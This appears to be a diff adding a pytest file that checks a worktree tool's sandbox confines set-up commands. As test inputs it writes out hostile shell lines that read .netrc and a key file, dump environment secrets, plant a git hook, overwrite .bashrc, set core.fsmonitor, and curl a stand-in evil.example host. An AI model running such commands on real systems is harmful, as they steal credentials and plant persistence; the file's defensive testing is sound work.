@@ -1,0 +1,128 @@
+"""A worktree's set-up command in the sandbox: it prepares its worktree, and reaches nothing else."""
+
+from __future__ import annotations
+
+import os
+from pathlib import Path
+
+import pytest
+
+from gshtui.bus.agent_data import SpawnRequest
+from gshtui.commands.declaration import Caller, Invocation
+from gshtui.fleet.commands import commands
+from gshtui.guard.sandbox.sandboxes import Sandboxes
+from gshtui.settings.settings_tables import Sandbox as SandboxSettings
+from gshtui.tools import setup_process, setup_record
+from gshtui.tools.worktree_create import create_worktree
+from tests.kit.fleet_harness import FleetHarness, echo_program
+from tests.kit.home import Home
+from tests.kit.tmux import private_server
+from tests.real.test_worktree import project
+
+__all__ = ["project"]
+
+
+async def agree(_argv: tuple[str, ...], _folder: Path) -> bool:
+    return True
+
+
+@pytest.fixture
+def own(tmp_path: Path) -> Path:
+    (tmp_path / "state").mkdir()
+    (tmp_path / "state" / "key").write_text("canary-own\n", "utf-8")
+    return Path(os.path.realpath(tmp_path / "state"))
+
+
+def sandboxes(own: Path, **settings: object) -> Sandboxes:
+    return Sandboxes(SandboxSettings(**settings), (own,))  # pyright: ignore[reportArgumentType]
+
+
+async def test_it_writes_its_worktree_only_and_reads_no_secret(
+    project: Path, home: Home, own: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("SHOP_TOKEN", "canary-variable")
+    (home.path / ".netrc").write_text("canary-netrc\n", "utf-8")
+    hook, outside = project / ".git" / "hooks" / "post-checkout", tmp_path / "outside"
+    outside.mkdir()
+    line = (
+        f"echo built >made; echo x >{outside}/x; echo x >{project}/a.txt; echo x >{home.path}/.bashrc; mkdir -p "
+        f"{hook.parent}; echo x >{hook}; echo gitdir: /tmp >.git; git config core.fsmonitor evil; "
+        f"cat {home.path}/.netrc {own}/key; env; echo evil >.envrc; true"
+    )
+    kept = tmp_path / "kept"
+    tree = await create_worktree(
+        project, "x", setup=("sh", "-c", line), consent=agree, output=kept, sandboxes=sandboxes(own)
+    )
+    place = Path(tree.path)
+    assert (place / "made").read_text() == "built\n"
+    assert list(outside.iterdir()) == []
+    assert (project / "a.txt").read_text() == "one\ntwo\nthree\n"
+    assert not hook.exists()
+    assert not (home.path / ".bashrc").exists()
+    assert "fsmonitor" not in (project / ".git" / "config").read_text()
+    assert (place / ".git").read_text().startswith(f"gitdir: {project}")
+    record = setup_record.find(kept, place)
+    assert record is not None
+    assert record.code == 0
+    assert "canary" not in Path(record.output).read_text()
+    assert record.sandbox.startswith("It ran in the sandbox: no network, and only the project")
+    assert not (place / ".envrc").exists()
+    (moved,) = record.refused
+    assert moved.startswith(".envrc is not left in the worktree")
+    assert moved in tree.notes[-1]
+
+
+async def test_what_it_was_refused_is_said_with_the_setting_that_allows_it(
+    project: Path, own: Path, tmp_path: Path
+) -> None:
+    wanted = tmp_path / "cache"
+    wanted.mkdir()
+    argv = ("curl", "-sSf", "http://evil.example/")
+    tree = await create_worktree(
+        project, "x", setup=argv, consent=agree, sandboxes=sandboxes(own, hosts=["pypi.org"], writable_paths=["."])
+    )
+    note = tree.notes[-1]
+    assert "failed with exit code" in note
+    assert 'no way to evil.example:80: `[sandbox] hosts = ["evil.example"]` allows it' in note
+    assert "It ran in the sandbox: network to the named hosts only" in note
+    tree = await create_worktree(
+        project,
+        "y",
+        setup=("touch", str(wanted / "new")),
+        consent=agree,
+        sandboxes=sandboxes(own, writable_paths=[".", str(wanted)]),
+    )
+    assert "succeeded." in tree.notes[-1]
+    assert (wanted / "new").exists()
+
+
+async def test_where_no_sandbox_works_it_runs_as_it_was_agreed_to(project: Path, own: Path, tmp_path: Path) -> None:
+    outside = tmp_path / "outside"
+    kept = tmp_path / "kept"
+    off = sandboxes(own, enabled=False)
+    tree = await create_worktree(project, "x", setup=("touch", str(outside)), consent=agree, output=kept, sandboxes=off)
+    assert outside.exists()
+    record = setup_record.find(kept, Path(tree.path))
+    assert record is not None
+    assert record.sandbox == "It ran outside the sandbox: the sandbox is switched off."
+
+
+async def test_one_that_takes_too_long_ends_with_all_it_started(project: Path, own: Path) -> None:
+    line = "(setsid sleep 300 &) ; echo started; sleep 300"
+    done = await setup_process.run_process(("sh", "-c", line), project, 3, sandboxes(own))
+    assert (done.code, done.printed) == (None, b"started\n")
+
+
+async def test_the_agents_page_says_whether_it_ran_in_the_sandbox(project: Path, own: Path) -> None:
+    async with private_server() as server:
+        harness = FleetHarness(project, server)
+        setup = ("sh", "-c", "echo no >.mcp.json; exit 2")
+        async with harness.start_hub(setup=setup, sandboxes=sandboxes(own)) as fleet:
+            row = await fleet.spawn(SpawnRequest(cli=echo_program(), worktree="x"))
+            family = next(command for command in commands(fleet) if command.name == "agent")
+            invocation = Invocation(Caller(), cwd=project, project=project)
+            shown = await family.handler(invocation, family.parameters(action="show", target=row.id))
+    assert "failed with exit code 2. It ran in the sandbox: no network" in shown.text
+    assert ".mcp.json is not left in the worktree" in shown.text
+    assert shown.data["setup"]["sandbox"].startswith("It ran in the sandbox: ")
+    assert len(shown.data["setup"]["refused"]) == 1
